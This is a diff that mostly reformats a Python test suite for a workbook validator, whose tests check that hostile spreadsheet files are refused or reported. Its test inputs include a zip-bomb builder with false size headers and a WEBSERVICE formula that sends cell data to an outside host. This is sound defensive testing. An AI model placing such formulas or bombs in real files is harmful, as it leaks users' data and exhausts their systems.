@@ -1,4 +1,7 @@
-"""Files from anywhere: bombs, macros, links and tampering. Each is refused by name or reported, and nothing of it runs."""
+"""Files from anywhere: bombs, macros, links and tampering.
+
+Each is refused by name or reported, and nothing of it runs.
+"""
 
 from __future__ import annotations
 
@@ -176,7 +179,8 @@ REFUSED: dict[str, tuple[Callable[[Parts], Parts], str]] = {
     ),
     "format to a file": (
         _before_print(
-            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="99"><formula>[2]X!A1&gt;0</formula></cfRule>'
+            '<conditionalFormatting sqref="A1"><cfRule type="expression" '
+            'priority="99"><formula>[2]X!A1&gt;0</formula></cfRule>'
             "</conditionalFormatting>"
         ),
         r"formula: '\[2\]X!A1>0' refers to another file",
@@ -314,7 +318,7 @@ def test_other_kinds_of_file(workbook: Path, parts: Parts, tmp_path: Path) -> No
         verify(path)
 
 
-# --- bombs ------------------------------------------------------------------------------------------------------------------
+# --- bombs --------------------------------------------------------------------------------------------------
 
 
 def _zeros(size: int) -> bytes:
@@ -327,7 +331,10 @@ def _zeros(size: int) -> bytes:
 def _bomb(
     path: Path, parts: Parts, name: str, packed: bytes, said: int, copies: int = 1, checksum: int = 0
 ) -> Path:
-    """A workbook with one more part, which says of itself what it likes; its copies all lie at the same place."""
+    """A workbook with one more part, which says of itself what it likes.
+
+    Its copies all lie at the same place.
+    """
     _write(path, parts)
     whole = path.read_bytes()
     end = whole.rindex(b"PK\x05\x06")
@@ -397,7 +404,10 @@ print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
 
 
 def test_bombs_take_neither_memory_nor_time(parts: Parts, tmp_path: Path) -> None:
-    """Gigabytes that the header owns up to or denies, parts that overlap, and sheets and styles as large as the limits let them be."""
+    """Gigabytes that the header owns up to or denies, and parts that overlap.
+
+    Sheets and styles are as large as the limits let them be.
+    """
     big, theme = _zeros(4 * 2**30), "xl/theme/theme2.xml"
     rest = {name: data for name, data in parts.items() if name != "xl/styles.xml"}
     rows = b'<row><c><v>1</v></c><c t="str"><v>x</v></c></row>' * 70_000
@@ -459,7 +469,7 @@ def test_a_bomb_inside_a_part_is_never_unpacked(parts: Parts, tmp_path: Path) ->
     assert next(iter(open_package(path).sheets)) == "Cover"
 
 
-# --- tampering --------------------------------------------------------------------------------------------------------------
+# --- tampering ----------------------------------------------------------------------------------------------
 
 
 def _edit(source: Path, target: Path, *changes: Callable[[Any], None]) -> Path:
@@ -509,7 +519,10 @@ def test_a_text_that_looks_like_a_formula(workbook: Path, tmp_path: Path) -> Non
 def test_tampering_is_reported_by_cell(
     workbook: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Cycles, arrays, data tables, functions that reach out, ranges and nesting without end, names and sheets: all in one file."""
+    """Cycles, arrays, data tables, functions that reach out, ranges and nesting without end, names, sheets.
+
+    All are in one file.
+    """
     formulas = {
         "serving.e2e": "=H{row}+1",
         "serving.tpot": '=WEBSERVICE("http://example.com/"&H10)',
@@ -609,8 +622,14 @@ def test_what_is_added_in_the_open_passes(workbook: Path, tmp_path: Path) -> Non
 
 
 def test_absurd_inputs_are_refused_by_cell(workbook: Path, tmp_path: Path) -> None:
-    """No figure of a deployment, and nothing that overflows on the way; in a file, and as any other might hold it."""
-    message = r"run\.xlsx: Efficiency!H\d+ \(efficiency\.step_host\.override\): holds .*expected a number under 1e\+15"
+    """No figure of a deployment, and nothing that overflows on the way.
+
+    In a file, and as any other might hold it.
+    """
+    message = (
+        r"run\.xlsx: Efficiency!H\d+ \(efficiency\.step_host\.override\): holds .*"
+        r"expected a number under 1e\+15"
+    )
     path = _edit(
         workbook,
         tmp_path / "run.xlsx",
